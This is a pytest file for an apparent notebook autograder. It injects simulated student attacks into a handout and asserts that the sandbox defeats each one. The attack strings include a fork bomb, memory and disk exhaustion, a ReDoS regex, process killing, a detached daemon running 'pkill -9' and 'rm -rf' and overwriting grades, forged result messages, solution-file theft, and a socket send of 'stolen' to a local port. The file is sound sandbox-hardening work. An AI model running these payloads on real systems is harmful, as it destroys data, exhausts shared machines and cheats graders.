"""Students who attack the grader gain nothing, and their classmates lose nothing.

Two attackers and one honest student (lab 1's solution) are graded together with ``--jobs 2``.
Each attack sits in an exercise cell of an untouched handout, whose points are zero: an attack
succeeds if any exercise earns a point, if a classmate's result or the output folder changes,
or if the class's grading does not finish. What stops each attack is in its comment.
"""

from __future__ import annotations

import json
import socket
import subprocess
import threading
import time
from pathlib import Path

import nbformat
import pytest

from labkit import exercises, grading, handouts, losses
from labkit.grading import submissions

ROOT = Path(__file__).resolve().parents[1]
SOLUTION = ROOT / "solutions" / "01_dcgan.ipynb"
TIMEOUT = 20


def _reference_facts_at(seed: int) -> dict:
    ex = exercises.get("dcgan-g-loss")
    return exercises.run_probe(ex, losses.g_loss_nonsaturating, seed)["result"]


def attacks(out: Path, port: int, marker: Path) -> dict[str, dict[str, str]]:
    """Student -> exercise id -> attack code put in front of that exercise's handout cell."""
    solution = ROOT / "solutions" / "01_dcgan.ipynb"
    forged = json.dumps({"status": "ok", "result": _reference_facts_at(0)})
    return {"thief": {
        # exec the solution notebook's cells: solutions/ is not in the sandbox, nor is the repository
        "dcgan-generator": f'''
import json, pathlib, labkit
for _p in (pathlib.Path(labkit.__file__).resolve().parents[1] / "solutions" / "01_dcgan.ipynb", pathlib.Path({str(solution)!r})):
    try:
        _nb = json.loads(_p.read_text())
    except OSError:
        continue
    for _c in _nb["cells"]:
        if _c.get("metadata", {{}}).get("labkit", {{}}).get("exercise") == "dcgan-generator":
            exec("".join(_c["source"]))
    break
''',
        # kill the parent, and everything it may signal: only the sandbox's own pid namespace is in reach
        "dcgan-discriminator": '''
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
''',
        # labkit's reference through the module, an alias, a reload and its source file: all stubs
        "dcgan-d-loss": '''
import importlib, inspect
import labkit.losses as _L
from labkit.losses import d_loss_gan as _alias
_L = importlib.reload(_L)
_ns = {}
exec(compile(open(_L.__file__).read(), "losses", "exec"), _ns)
_source_has_answer = "binary_cross_entropy_with_logits(real_logits" in inspect.getsource(_L)
def d_loss(real_logits, fake_logits):
    errors = []
    for _fn in (_alias, _L.d_loss_gan, _ns["d_loss_gan"]):
        try:
            return _fn(real_logits, fake_logits)
        except Exception as exc:
            errors.append(str(exc))
    raise RuntimeError(" | ".join(errors) + f" | the source holds the answer: {_source_has_answer}")
''',
        # the seed from the caller's frames, and a reply forged on the result channel with the reference's
        # facts at the notebook's public seed: the grader's seed is another, drawn after loading
        "dcgan-g-loss": f'''
import os, sys
_seen = []
def g_loss(fake_logits):
    _f = sys._getframe(1)
    while _f is not None:
        _seen.extend(v for k, v in _f.f_locals.items() if k == "seed")
        _f = _f.f_back
    from labkit import losses
    return losses.g_loss_nonsaturating(fake_logits)
for _fd in range(3, 32):
    try:
        os.write(_fd, ('{{"status": "loaded"}}\\n' + {forged!r} + "\\n").encode())
    except OSError:
        pass
''',
        # a hook on the kernel, and a detached daemon that waits for the grader to finish, then writes the
        # output folder and kills classmates: the sandbox sees neither, and its pid namespace dies with it
        "dcgan-train-step": f'''
import os, time
try:
    get_ipython().events.register("post_run_cell", lambda *a: open({str(out / "results" / "thief.json")!r}, "w").write("{{}}"))
except NameError:
    pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(4)
        for _p in ({str(out / "grades.csv")!r}, {str(out / "results" / "honest.json")!r}, {str(marker)!r}):
            try:
                open(_p, "w").write("hacked")
            except OSError:
                pass
        os.system("pkill -9 -f ipykernel; pkill -9 -f probe_child; rm -rf /tmp/labkit-*")
        time.sleep(120)
        os._exit(0)
    os._exit(0)
''',
    }, "bomber": {
        # memory: RLIMIT_AS stops the allocation
        "dcgan-generator": "_hoard = []\nwhile True:\n    _hoard.append(bytearray(10**8))\n",
        # processes: the sandbox's own user namespace caps them; a classmate's run still starts threads
        "dcgan-discriminator": '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
''',
        # a busy loop in C (catastrophic backtracking in re): the wall-clock limit ends the process tree
        "dcgan-d-loss": "import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')\n",
        # disk: RLIMIT_FSIZE stops a file at its limit
        "dcgan-g-loss": '''
with open("big.bin", "wb") as _f:
    while True:
        _f.write(b"x" * (1 << 24))
''',
        # network: the sandbox has none, the grading machine's own ports included
        "dcgan-train-step": f'''
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
''',
    }}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("attacks")
    out = tmp / "out"
    marker = tmp / "outside-marker.txt"
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]

    def listen() -> None:
        server.settimeout(1)
        while not getattr(server, "_closed", False):
            try:
                conn, _ = server.accept()
                received.append(conn.recv(100))
            except OSError:
                if server.fileno() == -1:
                    return

    threading.Thread(target=listen, daemon=True).start()
    sol = nbformat.read(SOLUTION, as_version=4)
    hand = handouts.make_handout(sol)
    paths = {"honest": tmp / "honest.ipynb"}
    nbformat.write(sol, paths["honest"])
    for student, cells in attacks(out, port, marker).items():
        nb = nbformat.reads(nbformat.writes(hand), as_version=4)
        for c in nb.cells:
            ex = submissions.exercise_of(c)
            if ex in cells:
                c.source = c.source + "\n" + cells[ex]  # after the handout's own definition, which it replaces
        paths[student] = tmp / f"{student}.ipynb"
        nbformat.write(nb, paths[student])
    started = time.monotonic()
    results = grading.grade(list(paths.values()), out, jobs=2, timeout=TIMEOUT, notebook_timeout=300)
    seconds = time.monotonic() - started
    snapshot = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    time.sleep(6)  # longer than the daemon waits before it strikes
    server.close()
    return {"out": out, "results": {r["student"]: r for r in results}, "snapshot": snapshot, "marker": marker,
            "received": received, "seconds": seconds}


def test_the_class_finishes_and_the_honest_student_keeps_every_point(attacked):
    results = attacked["results"]
    assert set(results) == {"honest", "thief", "bomber"}
    assert results["honest"]["total"] == results["honest"]["max_total"] == 13
    assert {e["outcome"] for e in results["honest"]["exercises"]} == {"passed"}
    assert attacked["seconds"] < 600


@pytest.mark.parametrize("student", ["thief", "bomber"])
def test_attacks_gain_nothing(attacked, student):
    r = attacked["results"][student]
    assert r["total"] == 0, r
    for e in r["exercises"]:
        assert e["points"] == 0 and e["outcome"] != "passed", e


def test_why_each_attack_failed(attacked):
    thief = {e["exercise"]: e for e in attacked["results"]["thief"]["exercises"]}
    assert thief["dcgan-generator"]["outcome"] == "not attempted"  # no solution file to exec
    assert thief["dcgan-discriminator"]["outcome"] in ("not attempted", "error")  # its pid namespace's init survives
    assert thief["dcgan-d-loss"]["message"].count("not available while that exercise is graded") == 3
    assert "the source holds the answer: False" in thief["dcgan-d-loss"]["message"]
    assert thief["dcgan-g-loss"]["outcome"] == "failed"  # the forged facts were for another seed
    bomber = {e["exercise"]: e for e in attacked["results"]["bomber"]["exercises"]}
    assert bomber["dcgan-d-loss"]["outcome"] == "timed out"
    assert any(why in bomber["dcgan-generator"]["message"]  # MemoryError at the limit, or the wall clock first
               for why in ("MemoryError", "ended without", "longer than the limit"))
    assert "File too large" in bomber["dcgan-g-loss"]["message"] or "Errno 27" in bomber["dcgan-g-loss"]["message"]
    assert "Network is unreachable" in bomber["dcgan-train-step"]["message"] \
        or "Connection refused" in bomber["dcgan-train-step"]["message"]


def test_nothing_outside_the_sandbox_changed(attacked):
    out = attacked["out"]
    now = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    assert now == attacked["snapshot"]  # the daemon's delayed writes never landed
    assert not attacked["marker"].exists()
    assert attacked["received"] == []  # no byte reached the grading machine's port
    assert sorted(p.name for p in (out / "results").glob("*.json")) == ["bomber.json", "honest.json", "thief.json"]
    left = subprocess.run(["pgrep", "-u", "65534"], capture_output=True, text=True).stdout.split()
    assert left == [], f"processes of the sandbox user survived: {left}"
